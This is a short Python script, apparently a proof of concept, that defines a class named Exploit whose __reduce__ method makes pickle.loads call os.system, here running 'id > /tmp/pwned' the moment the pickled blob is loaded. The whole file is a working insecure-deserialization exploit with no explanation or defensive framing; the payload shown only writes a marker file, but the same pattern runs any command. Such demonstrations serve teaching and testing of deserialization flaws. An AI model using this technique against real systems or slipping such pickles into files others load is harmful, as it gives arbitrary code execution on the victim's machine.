import os
import pickle


class Exploit:
    def __reduce__(self):
        return (os.system, ("id > /tmp/pwned",))


blob = pickle.dumps(Exploit())
pickle.loads(blob)
